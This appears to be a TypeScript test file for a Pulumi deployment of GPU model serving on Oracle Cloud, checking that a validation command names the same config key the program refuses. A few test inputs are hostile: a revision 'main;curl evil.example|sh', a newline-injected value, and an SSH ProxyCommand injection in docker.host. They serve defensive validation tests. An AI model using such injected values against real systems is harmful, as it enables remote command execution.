// `check` says what `pulumi up` will say. First an inventory: every place the program and its
// components can refuse (`fail(`, `RunError`, `throw new` in index.ts, program/ and components/) is listed
// below with what raises it, so a new refusal fails this test until it is placed. Then the proof:
// for each refusal a stack file can cause, the program is run the way `pulumi preview` runs it and
// refuses naming a key, and `check` on the same stack file names the same key.

import assert from "node:assert/strict";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { before, describe, test } from "node:test";
import { stringify } from "yaml";

import { validateStack } from "../components/config/validate";
import { checkStack } from "../operations/check";
import {
  DEV_SECRET_STAND_INS,
  DEV_STACK,
  devStackLaunchOptions,
  PROJECT,
  PROJECT_DIR,
  STACK_TYPE,
} from "./support/dev-stack";
import { type LaunchResult, launchProgram } from "./support/pulumi-host";
import { scratchDir } from "./support/scratch";
import { type Overrides, rawConfig } from "./support/stack-fixtures";

type Kind =
  /** The program (program/validation.ts) refuses what `validateStack` returns: proven below, case by case, against `check`. */
  | { readonly kind: "validation" }
  /** Unreachable once `validateStack` passed: a configuration that would reach it is refused first. */
  | { readonly kind: "guard"; readonly reachedBy: Overrides; readonly key: string }
  /** Not from the stack file: the tenancy's or the bucket's answers, disk contents, our own invariants. */
  | { readonly kind: "not-config"; readonly why: string };

interface Refusal {
  readonly file: string;
  /** Matches the refusing line. */
  readonly line: RegExp;
  readonly raisedBy: Kind;
}

const LOCAL_PACKING =
  "the contents of the local engine and model folders at pack time (links, sizes, disk space)";

const INVENTORY: readonly Refusal[] = [
  { file: "program/validation.ts", line: /^export function fail\(/, raisedBy: { kind: "validation" } },
  { file: "program/validation.ts", line: /throw new pulumi\.RunError\(/, raisedBy: { kind: "validation" } },
  { file: "program/validation.ts", line: /fail\(refusals\)/, raisedBy: { kind: "validation" } },
  {
    file: "components/config/image-catalog.ts",
    line: /throw new Error\(formatConfigError\(unknownServingImage/,
    raisedBy: {
      kind: "guard",
      reachedBy: { "image.source": "nvcr.io/nvidia/tritonserver:24.01-trtllm-python-py3" },
      key: "image.source",
    },
  },
  {
    file: "components/config/views.ts",
    line: /shape missing from catalogue/,
    raisedBy: { kind: "guard", reachedBy: { "deployment.shape": "VM.GPU.X" }, key: "deployment.shape" },
  },
  {
    file: "components/artifact/cache-keys.ts",
    line: /is not in the catalogue/,
    raisedBy: { kind: "guard", reachedBy: { "build.shape": "VM.GPU.X" }, key: "build.shape" },
  },
  {
    file: "components/iam.ts",
    line: /throw new Error\(/,
    raisedBy: { kind: "guard", reachedBy: { tenancyId: undefined, "iam.create": true }, key: "tenancyId" },
  },
  {
    file: "components/build/host-plan.ts",
    line: /holds a newline or NUL/,
    raisedBy: { kind: "guard", reachedBy: { "model.revision": "main\nEVIL=1" }, key: "model.revision" },
  },
  {
    file: "components/build/host-plan.ts",
    line: /is not NAME_LIKE_THIS/,
    raisedBy: { kind: "not-config", why: "setting names are the program's own constants (buildSettings)" },
  },
  {
    file: "components/deployment/expiry.ts",
    line: /positive number of hours/,
    raisedBy: { kind: "guard", reachedBy: { "evaluation.ttlHours": 0 }, key: "evaluation.ttlHours" },
  },
  {
    file: "components/deployment/artifact-sources.ts",
    line: /throw new Error\(/,
    raisedBy: {
      kind: "guard",
      reachedBy: { "engine.prebuiltDir": "./no-such-engine", "model.localDir": "./no-such-model" },
      key: "engine.prebuiltDir",
    },
  },
  {
    file: "components/config/chat-templates.ts",
    line: /throw new Error\(/,
    raisedBy: {
      kind: "not-config",
      why: "the local model snapshot's tokenizer_config.json of a deployment.api openai stack, read when its artifact is packed",
    },
  },
  {
    file: "components/model-repository/model-config.ts",
    line: /is not a whole number >= /,
    raisedBy: { kind: "guard", reachedBy: { "engine.maxBatchSize": 0 }, key: "engine.maxBatchSize" },
  },
  {
    file: "components/model-repository/model-config.ts",
    line: /is not an enum value name|is not a whole number`|must have dims|exactly one of backend and platform/,
    raisedBy: { kind: "not-config", why: "the renderer's own model definitions (names, dims, backends)" },
  },
  {
    file: "components/model-repository/index.ts",
    line: /is not a Python model of the repository|is miswired/,
    raisedBy: { kind: "not-config", why: "the repository's own wiring, fixed in code" },
  },
  {
    file: "components/deployment/stack-outputs.ts",
    line: /throw new Error\(/,
    raisedBy: {
      kind: "not-config",
      why: "a request of `invoke --stream` against a stack that cannot stream",
    },
  },
  {
    file: "components/build/bastion-plan.ts",
    line: /a build estimate must be positive/,
    raisedBy: {
      kind: "not-config",
      why: "the program's own build estimate, always positive (build-estimate.ts)",
    },
  },
  {
    file: "components/build/network-plan.ts",
    line: /throw new Error\(/,
    raisedBy: {
      kind: "not-config",
      why: "the region's service list (core.getServices) lacking the Oracle Services Network entry",
    },
  },
  {
    file: "components/deployment/home-region.ts",
    line: /throw new Error\(/,
    raisedBy: {
      kind: "not-config",
      why: "the tenancy's region subscriptions not naming one home region (iam.homeRegion is the fix it names)",
    },
  },
  {
    file: "components/deployment/ocir.ts",
    line: /no sha256 digest/,
    raisedBy: { kind: "not-config", why: "the registry's answer" },
  },
  {
    file: "components/deployment/ocir.ts",
    line: /is not <registry>\/<namespace>\/<repository>:<tag>@sha256:<digest>/,
    raisedBy: { kind: "not-config", why: "the reference the program itself pins from the registry's digest" },
  },
  {
    file: "components/registry/image-mirror.ts",
    line: /not a sha256 digest/,
    raisedBy: { kind: "not-config", why: "the registry's answer for image.source's tag" },
  },
  {
    file: "program/image-mirror.ts",
    line: /if \(!found\.ok\) fail\(found\.errors\)/,
    raisedBy: {
      kind: "not-config",
      why: "the OCIR lookup at preview: a public repository of the mirror's name, or a tag the registry cannot resolve",
    },
  },
  {
    file: "program/endpoint-lookups.ts",
    line: /if \(errors\.length > 0\) fail\(errors\)/,
    raisedBy: {
      kind: "not-config",
      why: "the tenancy's answers at preview: the private subnet's region, compartment and state, the Data Science limit of the shape (check judges the OCID alone)",
    },
  },
  {
    file: "program/engine-build.ts",
    line: /throw new Error\("an image-copy instance has no build manifest"\)/,
    raisedBy: {
      kind: "not-config",
      why: "our own invariant: only build and assemble hosts print a manifest",
    },
  },
  {
    file: "components/build/inputs.ts",
    line: /throw new Error/,
    raisedBy: { kind: "not-config", why: "the tenancy's availability domains and platform images" },
  },
  {
    file: "components/artifact/engine-cache.ts",
    line: /throw new Error/,
    raisedBy: {
      kind: "not-config",
      why: "a build manifest in the bucket that is not one, or not this key's",
    },
  },
  {
    file: "components/config/stack-file.ts",
    line: /throw new StackFileError/,
    raisedBy: {
      kind: "not-config",
      why: "check's own reading of the stack file (the program gets its config from Pulumi)",
    },
  },
  {
    file: "components/artifact/zip-streams.ts",
    line: /fail\(/,
    raisedBy: { kind: "not-config", why: "the hashing worker thread failing" },
  },
  {
    file: "components/build/dial-budget.ts",
    line: /throw new RangeError\(/,
    raisedBy: {
      kind: "not-config",
      why: "our own invariants: the dial budgets and timeouts the build plan computes are whole, non-negative numbers",
    },
  },
  {
    file: "components/build/shape-limits.ts",
    line: /throw new Error\(/,
    raisedBy: {
      kind: "not-config",
      why: "a pick-availability-domain task line for a flexible shape without --ocpus (the oci-task command line, not the stack file)",
    },
  },
  {
    file: "components/deployment/endpoint-proof.ts",
    line: /not its JSON record/,
    raisedBy: {
      kind: "not-config",
      why: "what the deployed endpoint's proof command printed during pulumi up",
    },
  },
  ...["walk.ts", "zip-writer.ts", "zip-paths.ts", "packer.ts", "pack-error.ts"].map((file) => ({
    file: `components/artifact/${file}`,
    line: /throw new PackError/,
    raisedBy: { kind: "not-config", why: LOCAL_PACKING } as Kind,
  })),
];

const REFUSING = /\bfail\(|\bRunError\b|\bthrow new\b/;

function sources(): string[] {
  const found = ["index.ts"];
  const walk = (dir: string) => {
    for (const entry of readdirSync(path.join(PROJECT_DIR, dir), { withFileTypes: true })) {
      const relative = path.posix.join(dir, entry.name);
      if (entry.isDirectory()) walk(relative);
      else if (entry.name.endsWith(".ts")) found.push(relative);
    }
  };
  walk("program");
  walk("components");
  return found;
}

describe("every refusal of the program is placed", () => {
  const lines = sources().flatMap((file) =>
    readFileSync(path.join(PROJECT_DIR, file), "utf8")
      .split("\n")
      .map((text, i) => ({ file, at: i + 1, text: text.trim() }))
      .filter(({ text }) => REFUSING.test(text) && !text.startsWith("//") && !text.startsWith("*")),
  );

  test("each refusing line of index.ts, program/ and components/ is in the inventory, and each entry still matches", () => {
    const unplaced = lines.filter(
      ({ file, text }) => !INVENTORY.some((r) => r.file === file && r.line.test(text)),
    );
    assert.deepEqual(
      unplaced.map(({ file, at, text }) => `${file}:${at}: ${text}`),
      [],
      "place each in INVENTORY: which key of the stack file raises it, or why none does",
    );
    const stale = INVENTORY.filter(
      (r) => !lines.some(({ file, text }) => r.file === file && r.line.test(text)),
    );
    assert.deepEqual(
      stale.map((r) => `${r.file} ${String(r.line)}`),
      [],
    );
  });

  for (const refusal of INVENTORY) {
    const { raisedBy } = refusal;
    if (raisedBy.kind !== "guard") continue;
    test(`${refusal.file} ${String(refusal.line)}: check refuses first, naming ${raisedBy.key}`, () => {
      const validation = validateStack(rawConfig(raisedBy.reachedBy), {
        stack: DEV_STACK,
        projectDir: scratchDir("refusal-"),
        engine: { kind: "assume-build" },
      });
      assert.equal(validation.config === undefined || validation.absentFolders.length > 0, true);
      const keys = [...validation.errors, ...validation.missingInputs, ...validation.absentFolders].map(
        (e) => e.key,
      );
      assert.ok(keys.includes(raisedBy.key), `${raisedBy.key} not in ${JSON.stringify(keys)}`);
    });
  }
});

/** What the program, run as `pulumi preview` of the dev stack on a new bucket (a build), refuses. */
const PROGRAM_CASES: readonly {
  readonly name: string;
  readonly config: Record<string, unknown>;
  readonly key: string;
}[] = [
  {
    name: "an uncatalogued serving image",
    config: { image: { source: "nvcr.io/nvidia/tritonserver:24.01-trtllm-python-py3" } },
    key: "image.source",
  },
  { name: "iam.create false with a build to run", config: { iam: { create: false } }, key: "iam.create" },
  {
    name: "a gated model without hfToken",
    config: {
      model: { huggingFaceId: "meta-llama/Llama-3.1-8B-Instruct", revision: "main" },
      engine: { maxBatchSize: 4 },
    },
    key: "hfToken",
  },
  {
    name: "a revision with a command in it",
    config: { model: { revision: "main;curl evil.example|sh" } },
    key: "model.revision",
  },
  {
    name: "docker.host as an SSH option",
    config: { docker: { host: "ssh://-oProxyCommand=id@host" } },
    key: "docker.host",
  },
  { name: "a region typo", config: { "oci:region": "us-ashburm-1" }, key: "oci:region" },
];

function programConfig(
  base: Record<string, string>,
  change: Record<string, unknown>,
): Record<string, string> {
  const config = { ...base };
  for (const [key, value] of Object.entries(change)) {
    if (key.includes(":")) config[key] = String(value);
    else {
      const full = `${PROJECT}:${key}`;
      const merged =
        key === "build"
          ? {}
          : {
              ...(config[full] === undefined ? {} : (JSON.parse(config[full]) as object)),
              ...(value as object),
            };
      config[full] = JSON.stringify(merged);
    }
  }
  return config;
}

/** The stack file `pulumi config` would have written for the same settings. */
function stackFileOf(config: Record<string, string>, secretKeys: readonly string[]): string {
  const entries = Object.entries(config).map(([key, value]) => {
    if (secretKeys.includes(key)) return [key, { secure: "v1:stand-in" }];
    return [key, value.startsWith("{") ? (JSON.parse(value) as unknown) : value];
  });
  return stringify({ config: Object.fromEntries(entries) });
}

function refusedKeys(result: LaunchResult): string[] {
  const text = result.logs
    .filter((l) => l.severity === "error")
    .map((l) => l.message)
    .join("\n");
  return [...text.matchAll(/^ {2}([A-Za-z0-9_.:-]+) = /gm)].map((m) => m[1]);
}

describe("check names what the program refuses, for the same stack file", { timeout: 900_000 }, () => {
  const outcomes = new Map<string, { program: LaunchResult; checked: string[] }>();
  before(async () => {
    const projectDir = scratchDir("refusal-stacks-");
    const run = async (c: (typeof PROGRAM_CASES)[number]) => {
      const options = await devStackLaunchOptions();
      const config = programConfig(options.config, c.config);
      const stack = `case${PROGRAM_CASES.indexOf(c)}`;
      writeFileSync(
        path.join(projectDir, `Pulumi.${stack}.yaml`),
        stackFileOf(config, Object.keys(DEV_SECRET_STAND_INS)),
      );
      const check = checkStack(projectDir, stack);
      const checked = [...check.errors, ...check.notes].map((e) => e.key);
      const program = await launchProgram({ ...options, config, timeoutMs: 240_000 });
      return { program, checked };
    };
    // Two programs at a time: each is a whole Node process, and the machine is shared.
    const results: { program: LaunchResult; checked: string[] }[] = [];
    for (let i = 0; i < PROGRAM_CASES.length; i += 2) {
      results.push(...(await Promise.all(PROGRAM_CASES.slice(i, i + 2).map(run))));
    }
    PROGRAM_CASES.forEach((c, i) => outcomes.set(c.name, results[i]));
  });

  for (const c of PROGRAM_CASES) {
    test(`${c.name}: the program refuses before any resource naming ${c.key}, and check names it too`, () => {
      const outcome = outcomes.get(c.name);
      assert.ok(outcome);
      const { program, checked } = outcome;
      assert.notEqual(program.exitCode, 0);
      assert.deepEqual(
        program.resources.map((r) => r.type),
        [STACK_TYPE],
      );
      const refused = refusedKeys(program);
      assert.ok(
        refused.includes(c.key),
        `program refused ${JSON.stringify(refused)}${program.timedOut ? " (timed out)" : ""}: ${program.stderr.slice(-2000)}`,
      );
      for (const key of refused)
        assert.ok(checked.includes(key), `check did not name ${key}: ${JSON.stringify(checked)}`);
    });
  }
});
